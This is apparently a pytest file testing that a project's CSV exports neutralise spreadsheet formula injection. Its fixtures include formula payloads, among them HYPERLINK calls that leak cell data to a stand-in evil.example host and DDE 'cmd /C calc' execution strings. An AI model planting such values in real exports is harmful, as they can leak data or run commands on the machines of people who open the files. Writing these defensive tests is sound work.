"""CSV exports neutralise spreadsheet formulas (OWASP "CSV Injection"): ``actions`` and ``timeline``."""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path

import pytest

from pmsite.cli import cli
from pmsite.csvout import csv_text, safe_cell
from pmsite.importers import TimelineEvent
from pmsite.timeline import TimelineSettings, build_timeline, to_csv
from tests.conftest import write

FORMULAS = ["=HYPERLINK(\"https://evil.example?\"&A1,\"open\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1", "=cmd|' /C notepad'!A1", "-", "+", "@here rollback?"]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_cell_a_spreadsheet_would_evaluate_gets_a_quote(value):
    assert safe_cell(value) == "'" + value.replace("\r", "\n")
    assert list(csv.reader(io.StringIO(csv_text(["h"], [[value], ["next"]]), newline=""))) == [
        ["h"], ["'" + value.replace("\r", "\n")], ["next"]]


@pytest.mark.parametrize("value", ["-3", "+1.5", "42", "2024-03-07T14:02:11Z", "rollback at 23:35 = fix", "", "a=b",
                                   "'already quoted", " =leading space"])
def test_other_cells_are_unchanged(value):
    assert safe_cell(value) == value


def test_timeline_csv_quotes_formulas_in_every_column():
    event = TimelineEvent(dt.datetime(2024, 3, 7, 23, 1, tzinfo=dt.timezone.utc), "=source", "@who",
                          "=HYPERLINK(\"https://evil.example\")", person=True)
    rows = list(csv.reader(io.StringIO(to_csv(build_timeline([[event]], TimelineSettings())))))
    assert rows[1] == ["2024-03-07T23:01:00Z", "'=source", "'@who", "'=HYPERLINK(\"https://evil.example\")"]


def test_actions_csv_quotes_formulas_from_front_matter(runner, site_root: Path):
    write(site_root / "content" / "postmortems" / "a.md", """\
        ---
        id: PM-2024-001
        title: Checkout down
        status: published
        severity: SEV3
        type: availability
        date: 2024-03-07
        action_items:
          - id: AI-1
            title: "=HYPERLINK(\\"https://evil.example\\",\\"click\\")"
            owner: "@SUM(1+1)*cmd|' /C calc'!A0"
            status: open
            due: 2024-04-01
            link: https://tracker.example/-1
        ---
        Body.
        """)
    result = runner.invoke(cli, ["-C", str(site_root), "actions", "--format", "csv", "--as-of", "2024-03-01"])
    assert result.exit_code == 0, result.output
    [row] = list(csv.DictReader(io.StringIO(result.stdout)))
    assert row["title"] == "'=HYPERLINK(\"https://evil.example\",\"click\")"
    assert row["owner"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["days_overdue"] == "0" and row["link"] == "https://tracker.example/-1"
